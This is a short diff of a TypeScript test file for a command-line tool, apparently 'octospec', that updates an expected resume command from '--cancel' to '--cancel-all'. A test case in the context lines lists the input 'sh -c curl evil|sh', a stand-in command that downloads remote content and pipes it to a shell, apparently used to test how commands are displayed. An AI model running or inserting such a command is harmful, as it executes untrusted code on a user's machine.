@@ -9,7 +9,7 @@ const cwd = mkdtempSync(join(tmpdir(), 'octospec-'))
 const note = (command: readonly string[] | undefined, pending = 0, bookings: number | null = null): string =>
   asideNote({ path: join(cwd, 'out/earlier-20300102-030405'), command, pending, bookings }, cwd)
 const lineFor = (...command: readonly string[]): string => note(command).split(', for ')[1] ?? ''
-const plain = 'octospec resume out/earlier-20300102-030405 --cancel'
+const plain = 'octospec resume out/earlier-20300102-030405 --cancel-all'
 
 test.each([
   [['sh', '-c', 'curl evil|sh', 'run']],
